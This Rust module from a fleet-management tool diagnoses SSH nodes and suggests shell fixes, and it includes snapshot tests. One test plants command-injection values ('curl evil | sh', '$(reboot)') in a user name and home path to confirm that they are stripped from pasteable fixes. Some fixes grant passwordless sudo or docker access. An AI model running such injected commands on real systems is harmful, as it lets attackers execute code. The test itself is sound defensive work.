//! What is wrong with a node, and how to mend it: judgements on [`Facts`], without any I/O.

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use towline_core::{event::Report, id::NodeId};

use super::{Account, Disk, Facts, Passwordless, survey::Told};

/// A disk fuller than this is worth a look, in percent; fuller than that is a failure.
const DISK_WARN: u8 = 85;
const DISK_FAIL: u8 = 95;

/// A clock further off than this is worth a look, in milliseconds; further than that, tokens,
/// certificates and logs are wrong.
const CLOCK_WARN_MS: u64 = 2_000;
const CLOCK_FAIL_MS: u64 = 30_000;

/// Towline has no more handshakes than this under way with one sshd.
const HANDSHAKES: u32 = 8;

/// Fewer sessions on a connection than this make parallel work wait.
const SESSIONS: u32 = 10;

/// Something that was looked at.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Check {
    /// What was looked at, in a word or two.
    pub name: String,
    /// How it is.
    pub level: Level,
    /// What was found.
    pub found: String,
    /// What to type or change, where something is wrong.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mend: Option<String>,
}

/// A line of `tow doctor --output json`.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
#[serde(tag = "type", rename_all = "kebab-case")]
pub enum DoctorLine {
    /// Something on this machine.
    ClientCheck(Check),
    /// Something on a node.
    NodeCheck {
        /// Which node.
        node: NodeId,
        /// What was found there.
        #[serde(flatten)]
        check: Check,
    },
    /// The last line: how the nodes were reached.
    Report(Report),
}

/// How something is.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema,
)]
#[serde(rename_all = "lowercase")]
pub enum Level {
    /// As it should be.
    Ok,
    /// It works, but something will not.
    Warn,
    /// It does not work.
    Fail,
}

impl Check {
    /// Something that is as it should be.
    pub fn ok(name: &str, found: impl Into<String>) -> Self {
        Self {
            name: name.to_owned(),
            level: Level::Ok,
            found: found.into(),
            mend: None,
        }
    }

    /// Something that works, and what would make it better.
    pub fn warn(name: &str, found: impl Into<String>, mend: impl Into<String>) -> Self {
        Self {
            level: Level::Warn,
            mend: Some(mend.into()),
            ..Self::ok(name, found)
        }
    }

    /// Something that does not work, and how to mend it.
    pub fn fail(name: &str, found: impl Into<String>, mend: impl Into<String>) -> Self {
        Self {
            level: Level::Fail,
            ..Self::warn(name, found, mend)
        }
    }
}

/// Every check of a node that its facts allow.
#[must_use]
pub fn checks(told: &Told) -> Vec<Check> {
    let facts = &told.facts;
    let mut checks = Vec::new();
    if let Some(account) = &facts.account {
        checks.push(become_root(account));
        checks.extend(shell(account));
        checks.push(home(account));
    }
    checks.push(greeting(facts));
    checks.extend(facts.disks.iter().map(disk));
    checks.extend(facts.disks.iter().filter_map(inodes));
    checks.extend(clock(told));
    checks.extend(sshd(facts));
    checks.extend(docker(facts));
    checks.extend(systemd(facts));
    checks
}

/// A name that came from a node, for a line that people will paste into a shell: anything that
/// is more than a name there is left out.
fn pasteable<'a>(name: Option<&'a str>, otherwise: &'a str) -> &'a str {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"_./-".contains(&b);
    name.filter(|name| !name.is_empty() && !name.starts_with('-') && name.bytes().all(plain))
        .unwrap_or(otherwise)
}

fn become_root(account: &Account) -> Check {
    const NAME: &str = "become root";
    if account.uid == Some(0) {
        return Check::ok(NAME, "the account is root");
    }
    let user = pasteable(account.user.as_deref(), "USER");
    match (account.sudo, account.doas) {
        (Passwordless::Yes, _) => Check::ok(NAME, "sudo without a password"),
        (_, Passwordless::Yes) => Check::ok(NAME, "doas without a password"),
        (Passwordless::Absent, Passwordless::Absent) => Check::warn(
            NAME,
            "neither sudo nor doas is installed",
            "install sudo, or log in as root: -l root",
        ),
        (Passwordless::No, _) => Check::warn(
            NAME,
            // tidy: allow-text it is shown, and what a node said of itself is pasteable
            format!("sudo wants a password of {user}"),
            format!(
                // tidy: allow-text it is shown, and what a node said of itself is pasteable
                "give it with -K, or as root on the node: \
                 echo '{user} ALL=(ALL) NOPASSWD: ALL' | visudo -cf - && \
                 echo '{user} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/towline"
            ),
        ),
        (Passwordless::Absent, Passwordless::No) => Check::warn(
            NAME,
            // tidy: allow-text it is shown, and what a node said of itself is pasteable
            format!("doas wants a password of {user}"),
            format!("give it with -K, or as root: echo 'permit nopass {user}' >> /etc/doas.conf"),
        ),
    }
}

fn shell(account: &Account) -> Option<Check> {
    const NAME: &str = "login shell";
    let shell = account.shell.as_deref()?;
    let program = shell.rsplit('/').next().unwrap_or(shell);
    Some(match program {
        "csh" | "tcsh" => Check::fail(
            NAME,
            format!("{shell} reads quotes unlike other shells: line breaks and ! go wrong"),
            "on the node: chsh -s /bin/sh",
        ),
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "mksh" | "fish" | "busybox" => {
            Check::ok(NAME, shell)
        }
        _ => Check::warn(
            NAME,
            format!("{shell} is not known to read commands as sh does"),
            "on the node: chsh -s /bin/sh",
        ),
    })
}

fn home(account: &Account) -> Check {
    let home = account.home.as_deref().unwrap_or("the home folder");
    if account.home_writable {
        return Check::ok("home", format!("{home} can be written to"));
    }
    let user = pasteable(account.user.as_deref(), "USER");
    let folder = pasteable(account.home.as_deref(), "HOME");
    Check::fail(
        "home",
        format!("{home} is not there or can not be written to"),
        format!(
            // tidy: allow-text it is shown, and what a node said of itself is pasteable
            "as root on the node: mkdir -p {folder} && chown {user}: {folder}; is the disk mounted read-only?"
        ),
    )
}

fn disk(disk: &Disk) -> Check {
    let free = disk.available_bytes / (1024 * 1024);
    let free = if free >= 10 * 1024 {
        format!("{} GiB free", free / 1024)
    } else {
        format!("{free} MiB free")
    };
    let name = format!("disk {}", disk.mount);
    let found = format!("{}% used, {free}", disk.used_percent);
    let mend = match disk.mount.as_str() {
        "/" => {
            "on the node: journalctl --vacuum-size=200M; docker system prune; du -xh / | sort -h | tail"
        }
        _ => "remove images that are not used, or give it more room",
    };
    match disk.used_percent {
        percent if percent >= DISK_FAIL => Check::fail(&name, found, mend),
        percent if percent >= DISK_WARN => Check::warn(&name, found, mend),
        _ => Check::ok(&name, found),
    }
}

fn inodes(disk: &Disk) -> Option<Check> {
    let used = disk.inodes_used_percent?;
    let name = format!("inodes {}", disk.mount);
    let found = format!("{used}% used");
    let mend = "on the node, find the folder with the most files: \
                du --inodes -x / | sort -n | tail";
    Some(match used {
        used if used >= DISK_FAIL => Check::fail(&name, found, mend),
        used if used >= DISK_WARN => Check::warn(&name, found, mend),
        _ => Check::ok(&name, found),
    })
}

/// A login shell that prints before every command breaks rsync, scp and sftp.
fn greeting(facts: &Facts) -> Check {
    const NAME: &str = "shell start-up";
    let Some(text) = &facts.greeting else {
        return Check::ok(NAME, "prints nothing before a command");
    };
    let line = text.lines().next().unwrap_or_default();
    Check::warn(
        NAME,
        format!("prints before every command: {line:?}"),
        "on the node, in ~/.bashrc and its like, print in interactive shells only: \
         case $- in *i*) ;; *) return ;; esac",
    )
}

fn clock(told: &Told) -> Option<Check> {
    const NAME: &str = "clock";
    let offset = told.clock_offset?;
    let off = offset.ahead_ms.unsigned_abs();
    let direction = if offset.ahead_ms < 0 {
        "behind"
    } else {
        "ahead"
    };
    let found = format!(
        "{}.{} s {direction} this machine",
        off / 1000,
        off % 1000 / 100
    );
    let mend = "on the node: timedatectl set-ntp true, or install chrony; \
                if all nodes are off alike, mend the clock of this machine";
    // What may be due to the way of measuring is no fault of the clock.
    Some(match off.saturating_sub(offset.within_ms) {
        off if off > CLOCK_FAIL_MS => Check::fail(NAME, found, mend),
        off if off > CLOCK_WARN_MS => Check::warn(NAME, found, mend),
        _ => Check::ok(NAME, "right to within 2 s"),
    })
}

fn sshd(facts: &Facts) -> Option<Check> {
    const NAME: &str = "sshd limits";
    let limits = facts.sshd?;
    let startups = limits.max_startups;
    let found = format!(
        "MaxSessions {}, MaxStartups {}:{}:{}",
        limits.max_sessions, startups.start, startups.rate, startups.full
    );
    let mut wanted = Vec::new();
    if limits.max_sessions < SESSIONS {
        wanted.push(format!("MaxSessions {SESSIONS}"));
    }
    if startups.start < HANDSHAKES {
        wanted.push("MaxStartups 10:30:100".to_owned());
    }
    if wanted.is_empty() {
        return Some(Check::ok(NAME, found));
    }
    let mend = format!(
        "in /etc/ssh/sshd_config on the node: {}; then reload sshd",
        wanted.join(", ")
    );
    Some(Check::warn(NAME, found, mend))
}

fn docker(facts: &Facts) -> Option<Check> {
    const NAME: &str = "docker";
    let docker = facts.runs.as_ref()?.docker.as_ref()?;
    let user = facts.account.as_ref().and_then(|a| a.user.as_deref());
    let user = pasteable(user, "USER");
    Some(match (&docker.socket, docker.accessible) {
        (Some(socket), true) => Check::ok(NAME, format!("{socket} can be used")),
        (Some(socket), false) => Check::warn(
            NAME,
            format!("{user} may not use {socket}"),
            format!(
                // tidy: allow-text it is shown, and what a node said of itself is pasteable
                "as root on the node: usermod -aG docker {user} (that is as good as root), or use --become"
            ),
        ),
        (None, _) => Check::warn(
            NAME,
            "the client is there, but no engine listens",
            "on the node: systemctl enable --now docker",
        ),
    })
}

fn systemd(facts: &Facts) -> Option<Check> {
    const NAME: &str = "systemd";
    let systemd = facts.runs.as_ref()?.systemd.as_ref()?;
    let state = systemd.state.as_deref()?;
    Some(match state {
        "running" => Check::ok(NAME, state),
        "degraded" => {
            let number = systemd.failed_units.unwrap_or(0);
            Check::warn(
                NAME,
                format!("degraded: {number} failed"),
                "on the node: systemctl --failed, then systemctl status UNIT",
            )
        }
        _ => Check::warn(NAME, state, "on the node: systemctl list-jobs"),
    })
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::facts::survey::ClockOffset;

    fn told(sample: &str, ahead_ms: i64) -> Told {
        Told {
            facts: Facts::parse(sample.replace("\\0\n", "\0").as_bytes()).unwrap(),
            latency: Duration::from_millis(20),
            clock_offset: Some(ClockOffset {
                ahead_ms,
                within_ms: 10,
            }),
        }
    }

    fn written(checks: &[Check]) -> String {
        let lines = checks.iter().map(|check| {
            let mend = check.mend.as_deref().map(|m| format!("\n      mend: {m}"));
            let level = format!("{:?}", check.level);
            format!(
                "{level:<4}  {}: {}{}",
                check.name,
                check.found,
                mend.unwrap_or_default()
            )
        });
        lines.collect::<Vec<_>>().join("\n")
    }

    #[test]
    fn a_machine_in_order() {
        let told = told(include_str!("samples/debian-root.txt"), 12);
        insta::assert_snapshot!(written(&checks(&told)));
    }

    #[test]
    fn a_worker_with_troubles() {
        let told = told(include_str!("samples/kubernetes.txt"), -95_400);
        insta::assert_snapshot!(written(&checks(&told)));
    }

    #[test]
    fn an_account_with_troubles() {
        let mut told = told(include_str!("samples/macos.txt"), 2_500);
        let account = told.facts.account.as_mut().unwrap();
        account.shell = Some("/bin/tcsh".into());
        account.home_writable = false;
        told.facts.disks[0].used_percent = 97;
        insta::assert_snapshot!(written(&checks(&told)));
    }

    #[test]
    fn a_clock_measured_badly_is_not_blamed() {
        let mut told = told(include_str!("samples/macos.txt"), 2_500);
        told.clock_offset = Some(ClockOffset {
            ahead_ms: 2_500,
            within_ms: 600,
        });
        assert_eq!(clock(&told).unwrap().level, Level::Ok);
    }

    #[test]
    fn a_line_to_paste_holds_nothing_that_a_node_made_up() {
        let mut told = told(include_str!("samples/macos.txt"), 0);
        let account = told.facts.account.as_mut().unwrap();
        account.user = Some("x'; curl evil | sh; '".into());
        account.home = Some("/home/$(reboot)".into());
        account.home_writable = false;
        for check in checks(&told) {
            let mend = check.mend.unwrap_or_default();
            assert!(!mend.contains("curl") && !mend.contains("reboot"), "{mend}");
        }
    }

    #[test]
    fn every_check_that_is_not_well_says_how_to_mend_it() {
        for sample in [
            include_str!("samples/kubernetes.txt"),
            include_str!("samples/macos.txt"),
            include_str!("samples/busybox.txt"),
        ] {
            for check in checks(&told(sample, 100_000)) {
                assert_eq!(check.mend.is_none(), check.level == Level::Ok, "{check:?}");
            }
        }
    }
}
